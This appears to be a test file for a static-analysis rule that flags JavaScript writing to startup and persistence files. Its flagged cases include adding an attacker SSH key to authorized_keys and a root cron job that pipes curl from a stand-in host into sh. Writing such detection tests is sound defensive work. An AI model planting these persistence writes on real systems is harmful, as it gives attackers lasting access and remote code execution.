// Files that make code run again at the next login, boot or schedule.
const fs = require('fs');
const os = require('os');
const path = require('path');

// ruleid: javascript.persist.startup_file
fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\nalias sudo="sudo -E"\n');
// ruleid: javascript.persist.startup_file
fs.appendFileSync(`${os.homedir()}/.ssh/authorized_keys`, 'ssh-ed25519 AAAAC3Nza attacker');
// ruleid: javascript.persist.startup_file
fs.writeFileSync('/etc/cron.d/updater', '* * * * * root curl -s http://203.0.113.1/u | sh\n');

// ok: javascript.persist.startup_file
fs.writeFileSync(path.join(__dirname, 'out', 'bashrc.txt'), 'x');
// ok: javascript.persist.startup_file
fs.readFileSync(path.join(os.homedir(), '.bashrc'), 'utf8');
